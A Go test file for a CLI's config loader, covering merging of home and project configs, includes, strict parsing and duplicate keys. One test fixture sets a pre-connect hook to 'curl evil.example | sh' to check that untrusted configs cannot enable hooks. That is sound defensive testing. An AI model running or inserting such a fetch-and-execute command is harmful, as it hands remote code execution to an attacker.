@@ -0,0 +1,589 @@
+package config
+
+import (
+	"os"
+	"path/filepath"
+	"reflect"
+	"strings"
+	"testing"
+)
+
+func writeConfigFile(t *testing.T, name, content string) string {
+	t.Helper()
+	path := filepath.Join(t.TempDir(), name)
+	if err := os.WriteFile(path, []byte(content), 0o600); err != nil {
+		t.Fatalf("write config: %v", err)
+	}
+	return path
+}
+
+const typoConfig = `defaults:
+  bind: "127.0.0.1"
+  port_rang: [5500, 5999]
+services:
+  - name: service1
+    envs:
+      dev:
+        targetinstanceid: "i-1"
+        remote_host: "db.internal"
+        remote_port: 5432
+`
+
+func TestLoadConfigLenientIgnoresUnknownKeys(t *testing.T) {
+	t.Setenv(strictConfigEnvVar, "")
+	path := writeConfigFile(t, "config.yml", typoConfig)
+
+	if _, _, err := LoadConfig(path); err != nil {
+		t.Fatalf("expected lenient load to succeed, got %v", err)
+	}
+}
+
+func TestLoadConfigStrictRejectsUnknownKeys(t *testing.T) {
+	t.Setenv(strictConfigEnvVar, "")
+	path := writeConfigFile(t, "config.yml", typoConfig)
+
+	_, _, err := LoadConfigWithOptions(path, LoadOptions{Strict: true})
+	if err == nil {
+		t.Fatal("expected strict load to fail")
+	}
+	for _, want := range []string{"port_rang", "targetinstanceid"} {
+		if !strings.Contains(err.Error(), want) {
+			t.Fatalf("expected error to mention %q, got %q", want, err.Error())
+		}
+	}
+}
+
+func TestLoadConfigStrictFromEnv(t *testing.T) {
+	t.Setenv(strictConfigEnvVar, "true")
+	path := writeConfigFile(t, "config.yml", typoConfig)
+
+	if _, _, err := LoadConfig(path); err == nil {
+		t.Fatal("expected strict load via env to fail")
+	}
+}
+
+func TestLoadConfigMergesHomeAndProjectConfig(t *testing.T) {
+	t.Setenv(strictConfigEnvVar, "")
+	t.Setenv(configPathEnvVar, "")
+
+	home := t.TempDir()
+	t.Setenv("HOME", home)
+	if err := os.MkdirAll(filepath.Join(home, ".dbx"), 0o700); err != nil {
+		t.Fatalf("mkdir: %v", err)
+	}
+	basePath := filepath.Join(home, ".dbx", "config.yml")
+	base := `defaults:
+  region: sa-east-1
+  profile: corp
+ui:
+  log_wrap: true
+services:
+  - name: service1
+    envs:
+      dev:
+        target_instance_id: "i-base"
+        remote_host: "db.internal"
+        remote_port: 5432
+      stg:
+        target_instance_id: "i-stg"
+        remote_host: "db-stg.internal"
+        remote_port: 5432
+`
+	if err := os.WriteFile(basePath, []byte(base), 0o600); err != nil {
+		t.Fatalf("write base config: %v", err)
+	}
+
+	project := t.TempDir()
+	projectPath := filepath.Join(project, ".dbx.yml")
+	overlay := `defaults:
+  profile: project
+services:
+  - name: service1
+    envs:
+      dev:
+        target_instance_id: "i-project"
+        remote_host: "db.internal"
+        remote_port: 5433
+  - name: service2
+    envs:
+      qa:
+        target_instance_id: "i-qa"
+        remote_host: "db-qa.internal"
+        remote_port: 3306
+`
+	if err := os.WriteFile(projectPath, []byte(overlay), 0o600); err != nil {
+		t.Fatalf("write project config: %v", err)
+	}
+	nested := filepath.Join(project, "a", "b")
+	if err := os.MkdirAll(nested, 0o700); err != nil {
+		t.Fatalf("mkdir: %v", err)
+	}
+	t.Chdir(nested)
+
+	cfg, paths, err := LoadConfigWithOptions("", LoadOptions{})
+	if err != nil {
+		t.Fatalf("load failed: %v", err)
+	}
+	if len(paths) != 2 || paths[0] != basePath || paths[1] != projectPath {
+		t.Fatalf("unexpected merged paths: %v", paths)
+	}
+	if cfg.Defaults.Region != "sa-east-1" || cfg.Defaults.Profile != "project" {
+		t.Fatalf("unexpected merged defaults: %+v", cfg.Defaults)
+	}
+	if len(cfg.Services) != 2 {
+		t.Fatalf("expected 2 services, got %d", len(cfg.Services))
+	}
+	svc1 := cfg.Services[0]
+	if svc1.Envs["dev"].TargetInstanceID != "i-project" || svc1.Envs["dev"].RemotePort != 5433 {
+		t.Fatalf("expected project env to override base, got %+v", svc1.Envs["dev"])
+	}
+	if svc1.Envs["stg"].TargetInstanceID != "i-stg" {
+		t.Fatalf("expected base-only env to be kept, got %+v", svc1.Envs["stg"])
+	}
+	if cfg.Services[1].Name != "service2" {
+		t.Fatalf("expected project service appended, got %q", cfg.Services[1].Name)
+	}
+	if !cfg.UI.LogWrapEnabled() {
+		t.Fatal("expected ui.log_wrap from the home config to survive the project merge")
+	}
+}
+
+func TestLoadConfigExplicitPathSkipsProjectConfig(t *testing.T) {
+	t.Setenv(strictConfigEnvVar, "")
+	project := t.TempDir()
+	if err := os.WriteFile(filepath.Join(project, ".dbx.yml"), []byte(typoConfig), 0o600); err != nil {
+		t.Fatalf("write project config: %v", err)
+	}
+	t.Chdir(project)
+
+	path := writeConfigFile(t, "config.yml", typoConfig)
+	_, paths, err := LoadConfigWithOptions(path, LoadOptions{})
+	if err != nil {
+		t.Fatalf("load failed: %v", err)
+	}
+	if len(paths) != 1 || paths[0] != path {
+		t.Fatalf("expected only explicit path, got %v", paths)
+	}
+}
+
+func TestLoadConfigAllowHooksOnlyFromTrustedFiles(t *testing.T) {
+	t.Setenv(strictConfigEnvVar, "")
+	t.Setenv(configPathEnvVar, "")
+	t.Setenv("HOME", t.TempDir())
+
+	const hooked = `defaults:
+  allow_hooks: true
+  pre_connect_hook: "curl evil.example | sh"
+services:
+  - name: service1
+    envs:
+      dev:
+        target_instance_id: "i-1"
+        remote_host: "db.internal"
+        remote_port: 5432
+`
+	project := t.TempDir()
+	projectPath := filepath.Join(project, ".dbx.yml")
+	if err := os.WriteFile(projectPath, []byte(hooked), 0o600); err != nil {
+		t.Fatalf("write project config: %v", err)
+	}
+	t.Chdir(project)
+
+	if _, _, err := LoadConfigWithOptions("", LoadOptions{}); err == nil || !strings.Contains(err.Error(), "allow_hooks") {
+		t.Fatalf("expected a project config setting allow_hooks to be rejected, got %v", err)
+	}
+
+	included := writeConfigFile(t, "shared.yml", hooked)
+	root := writeConfigFile(t, "config.yml", "includes: ["+included+"]\n")
+	if _, _, err := LoadConfigWithOptions(root, LoadOptions{}); err == nil || !strings.Contains(err.Error(), "allow_hooks") {
+		t.Fatalf("expected an included file setting allow_hooks to be rejected, got %v", err)
+	}
+
+	cfg, _, err := LoadConfigWithOptions(writeConfigFile(t, "config.yml", hooked), LoadOptions{})
+	if err != nil || !cfg.Defaults.HooksAllowed() {
+		t.Fatalf("expected an explicit config to allow hooks, got %v", err)
+	}
+
+	if err := os.WriteFile(projectPath, []byte(strings.Replace(hooked, "  allow_hooks: true\n", "", 1)), 0o600); err != nil {
+		t.Fatalf("write project config: %v", err)
+	}
+	cfg, _, err = LoadConfigWithOptions("", LoadOptions{AllowHooks: true})
+	if err != nil || !cfg.Defaults.HooksAllowed() {
+		t.Fatalf("expected --allow-hooks to allow project hooks, got %v", err)
+	}
+}
+
+func TestLoadConfigUIKeys(t *testing.T) {
+	t.Setenv(strictConfigEnvVar, "")
+	path := writeConfigFile(t, "config.yml", `ui:
+  keys:
+    focus_next: [tab, L]
+    stop_all: X
+services:
+  - name: service1
+    envs:
+      dev:
+        target_instance_id: "i-1"
+        remote_host: "db.internal"
+        remote_port: 5432
+`)
+
+	cfg, _, err := LoadConfigWithOptions(path, LoadOptions{Strict: true})
+	if err != nil {
+		t.Fatalf("load config: %v", err)
+	}
+	if got := cfg.UI.Keys["focus_next"]; len(got) != 2 || got[1] != "L" {
+		t.Fatalf("expected focus_next [tab L], got %v", got)
+	}
+	if got := cfg.UI.Keys["stop_all"]; len(got) != 1 || got[0] != "X" {
+		t.Fatalf("expected a single key to decode as a list, got %v", got)
+	}
+}
+
+func TestLoadConfigProcessEnv(t *testing.T) {
+	t.Setenv(strictConfigEnvVar, "")
+	path := writeConfigFile(t, "config.yml", `defaults:
+  env:
+    AWS_CA_BUNDLE: /etc/ssl/corp.pem
+    HTTPS_PROXY: http://proxy:3128
+    no_proxy: localhost
+services:
+  - name: service1
+    envs:
+      dev:
+        target_instance_id: "i-1"
+        remote_host: "db.internal"
+        remote_port: 5432
+        env:
+          HTTPS_PROXY: http://dev-proxy:3128
+          http_proxy: http://plain-proxy:3128
+          NO_PROXY: .internal
+`)
+
+	cfg, _, err := LoadConfigWithOptions(path, LoadOptions{Strict: true})
+	if err != nil {
+		t.Fatalf("load config: %v", err)
+	}
+	env := cfg.Services[0].Envs["dev"].ProcessEnv(cfg.EffectiveDefaults(), map[string]string{"AWS_PROFILE": "ci"})
+	want := map[string]string{
+		"AWS_CA_BUNDLE": "/etc/ssl/corp.pem",
+		"HTTPS_PROXY":   "http://dev-proxy:3128",
+		"http_proxy":    "http://plain-proxy:3128",
+		"no_proxy":      "localhost",
+		"NO_PROXY":      ".internal",
+		"AWS_PROFILE":   "ci",
+	}
+	if len(env) != len(want) {
+		t.Fatalf("expected %v, got %v", want, env)
+	}
+	for key, value := range want {
+		if env[key] != value {
+			t.Fatalf("expected %s=%s (env over defaults, names as written), got %v", key, value, env)
+		}
+	}
+}
+
+func TestLoadConfigKeepsEnvNameCaseInTOML(t *testing.T) {
+	t.Setenv(strictConfigEnvVar, "")
+	path := writeConfigFile(t, "config.toml", `[defaults.env]
+no_proxy = "localhost"
+
+[[services]]
+name = "service1"
+
+[services.envs.dev]
+target_instance_id = "i-1"
+remote_host = "db.internal"
+remote_port = 5432
+
+[services.envs.dev.env]
+http_proxy = "http://plain-proxy:3128"
+AWS_CA_BUNDLE = "/etc/ssl/corp.pem"
+`)
+
+	cfg, _, err := LoadConfigWithOptions(path, LoadOptions{Strict: true})
+	if err != nil {
+		t.Fatalf("load config: %v", err)
+	}
+	env := cfg.Services[0].Envs["dev"].ProcessEnv(cfg.EffectiveDefaults(), nil)
+	want := map[string]string{
+		"no_proxy":      "localhost",
+		"http_proxy":    "http://plain-proxy:3128",
+		"AWS_CA_BUNDLE": "/etc/ssl/corp.pem",
+	}
+	if len(env) != len(want) {
+		t.Fatalf("expected %v, got %v", want, env)
+	}
+	for key, value := range want {
+		if env[key] != value {
+			t.Fatalf("expected %s=%s, got %v", key, value, env)
+		}
+	}
+}
+
+func TestLoadConfigRejectsDuplicateKeys(t *testing.T) {
+	t.Setenv(strictConfigEnvVar, "")
+	cases := []struct {
+		name    string
+		file    string
+		content string
+		want    string
+	}{
+		{
+			name: "env differing in case",
+			file: "config.yml",
+			content: `services:
+  - name: service1
+    envs:
+      dev:
+        remote_port: 5432
+      Dev:
+        remote_port: 5433
+`,
+			want: `services[service1].envs: key "Dev" at line 6 duplicates "dev" at line 4`,
+		},
+		{
+			name: "json env",
+			file: "config.json",
+			content: `{"services": [{"name": "service1", "envs": {
+  "dev": {"remote_port": 5432},
+  "dev": {"remote_port": 5433}
+}}]}`,
+			want: `services[service1].envs: key "dev" at line 3 duplicates "dev" at line 2`,
+		},
+		{
+			name: "service entry",
+			file: "config.yml",
+			content: `services:
+  - name: service1
+    envs:
+      dev:
+        remote_port: 5432
+  - name: service1
+    envs:
+      prod:
+        remote_port: 5432
+`,
+			want: "services[service1]: service at line 6 duplicates the one at line 2",
+		},
+	}
+
+	for _, tc := range cases {
+		t.Run(tc.name, func(t *testing.T) {
+			path := writeConfigFile(t, tc.file, tc.content)
+			_, _, err := LoadConfig(path)
+			if err == nil || !strings.Contains(err.Error(), tc.want) {
+				t.Fatalf("expected error containing %q, got %v", tc.want, err)
+			}
+		})
+	}
+}
+
+func TestLoadConfigTOMLMatchesYAML(t *testing.T) {
+	t.Setenv(strictConfigEnvVar, "")
+	yamlPath := writeConfigFile(t, "config.yml", `defaults:
+  region: sa-east-1
+  profile: corp
+  bind: "127.0.0.1"
+  port_range: [5500, 5999]
+  startup_timeout_seconds: 0
+  no_port_reuse: true
+  idle_timeout: 30m
+  env:
+    HTTPS_PROXY: "http://proxy:3128"
+  command_wrapper: ["aws-vault", "exec", "corp", "--"]
+services:
+  - name: service1
+    envs:
+      dev:
+        target_instance_id: "i-0123456789abcdef0"
+        remote_host: "db.internal"
+        remote_port: 5432
+        local_port: 55432
+      prod:
+        target_instance_id: "i-0fedcba9876543210"
+        remote_host: "db-prod.internal"
+        ports:
+          - name: primary
+            remote_port: 5432
+          - name: replica
+            remote_port: 5433
+groups:
+  backend: ["service1/dev", "service1/prod"]
+ui:
+  keys:
+    focus_next: [tab, l]
+`)
+	tomlPath := writeConfigFile(t, "config.toml", `[defaults]
+region = "sa-east-1"
+profile = "corp"
+bind = "127.0.0.1"
+port_range = [5500, 5999]
+startup_timeout_seconds = 0
+no_port_reuse = true
+idle_timeout = "30m"
+command_wrapper = ["aws-vault", "exec", "corp", "--"]
+
+[defaults.env]
+HTTPS_PROXY = "http://proxy:3128"
+
+[[services]]
+name = "service1"
+
+[services.envs.dev]
+target_instance_id = "i-0123456789abcdef0"
+remote_host = "db.internal"
+remote_port = 5432
+local_port = 55432
+
+[services.envs.prod]
+target_instance_id = "i-0fedcba9876543210"
+remote_host = "db-prod.internal"
+ports = [
+  { name = "primary", remote_port = 5432 },
+  { name = "replica", remote_port = 5433 },
+]
+
+[groups]
+backend = ["service1/dev", "service1/prod"]
+
+[ui.keys]
+focus_next = ["tab", "l"]
+`)
+
+	want, _, err := LoadConfigWithOptions(yamlPath, LoadOptions{Strict: true})
+	if err != nil {
+		t.Fatalf("load yaml: %v", err)
+	}
+	got, _, err := LoadConfigWithOptions(tomlPath, LoadOptions{Strict: true})
+	if err != nil {
+		t.Fatalf("load toml: %v", err)
+	}
+	if !reflect.DeepEqual(got, want) {
+		t.Fatalf("toml config differs from yaml:\n got %+v\nwant %+v", got, want)
+	}
+	if err := Validate(got); err != nil {
+		t.Fatalf("toml config does not validate: %v", err)
+	}
+}
+
+func TestLoadConfigTOMLRejectsKeysDifferingInCase(t *testing.T) {
+	t.Setenv(strictConfigEnvVar, "")
+	path := writeConfigFile(t, "config.toml", `[[services]]
+name = "service1"
+
+[services.envs.dev]
+remote_port = 5432
+
+[services.envs.Dev]
+remote_port = 5433
+`)
+
+	_, _, err := LoadConfig(path)
+	if err == nil || !strings.Contains(err.Error(), `services[service1].envs: key "dev" duplicates "Dev"`) {
+		t.Fatalf("expected a duplicate env error, got %v", err)
+	}
+}
+
+func TestLoadConfigResolvesIncludes(t *testing.T) {
+	t.Setenv(strictConfigEnvVar, "")
+	dir := t.TempDir()
+	write := func(name, content string) string {
+		path := filepath.Join(dir, name)
+		if err := os.MkdirAll(filepath.Dir(path), 0o700); err != nil {
+			t.Fatalf("mkdir: %v", err)
+		}
+		if err := os.WriteFile(path, []byte(content), 0o600); err != nil {
+			t.Fatalf("write %s: %v", name, err)
+		}
+		return path
+	}
+	teamPath := write("services/team.yml", `includes: [shared.toml]
+services:
+  - name: service1
+    envs:
+      dev:
+        target_instance_id: "i-team"
+        remote_host: "db.internal"
+        remote_port: 5432
+`)
+	sharedPath := write("services/shared.toml", `[defaults]
+region = "us-east-1"
+profile = "shared"
+
+[ui]
+log_wrap = true
+
+[[services]]
+name = "service2"
+
+[services.envs.qa]
+target_instance_id = "i-qa"
+remote_host = "db-qa.internal"
+remote_port = 3306
+`)
+	rootPath := write("config.yml", `includes:
+  - services/team.yml
+defaults:
+  profile: corp
+services:
+  - name: service1
+    envs:
+      dev:
+        target_instance_id: "i-root"
+        remote_host: "db.internal"
+        remote_port: 5433
+`)
+
+	cfg, paths, err := LoadConfigWithOptions(rootPath, LoadOptions{Strict: true})
+	if err != nil {
+		t.Fatalf("load failed: %v", err)
+	}
+	if !reflect.DeepEqual(paths, []string{sharedPath, teamPath, rootPath}) {
+		t.Fatalf("unexpected merged paths: %v", paths)
+	}
+	if cfg.Includes != nil {
+		t.Fatalf("expected includes to be resolved, got %v", cfg.Includes)
+	}
+	if cfg.Defaults.Region != "us-east-1" || cfg.Defaults.Profile != "corp" {
+		t.Fatalf("unexpected merged defaults: %+v", cfg.Defaults)
+	}
+	if len(cfg.Services) != 2 || cfg.Services[0].Name != "service2" || cfg.Services[1].Name != "service1" {
+		t.Fatalf("unexpected merged services: %+v", cfg.Services)
+	}
+	if dev := cfg.Services[1].Envs["dev"]; dev.TargetInstanceID != "i-root" || dev.RemotePort != 5433 {
+		t.Fatalf("expected the including file to win, got %+v", dev)
+	}
+	if !cfg.UI.LogWrapEnabled() {
+		t.Fatal("expected ui.log_wrap from an include to be kept")
+	}
+}
+
+func TestLoadConfigIncludeErrors(t *testing.T) {
+	t.Setenv(strictConfigEnvVar, "")
+
+	t.Run("missing", func(t *testing.T) {
+		path := writeConfigFile(t, "config.yml", "includes: [nope.yml]\n")
+		_, _, err := LoadConfig(path)
+		if err == nil || !strings.Contains(err.Error(), `include "nope.yml" not found`) {
+			t.Fatalf("expected a missing include error, got %v", err)
+		}
+	})
+
+	t.Run("cycle", func(t *testing.T) {
+		dir := t.TempDir()
+		aPath := filepath.Join(dir, "a.yml")
+		bPath := filepath.Join(dir, "b.yml")
+		if err := os.WriteFile(aPath, []byte("includes: [b.yml]\n"), 0o600); err != nil {
+			t.Fatalf("write: %v", err)
+		}
+		if err := os.WriteFile(bPath, []byte("includes: [a.yml]\n"), 0o600); err != nil {
+			t.Fatalf("write: %v", err)
+		}
+		_, _, err := LoadConfig(aPath)
+		want := "include cycle: " + aPath + " -> " + bPath + " -> " + aPath
+		if err == nil || !strings.Contains(err.Error(), want) {
+			t.Fatalf("expected error containing %q, got %v", want, err)
+		}
+	})
+}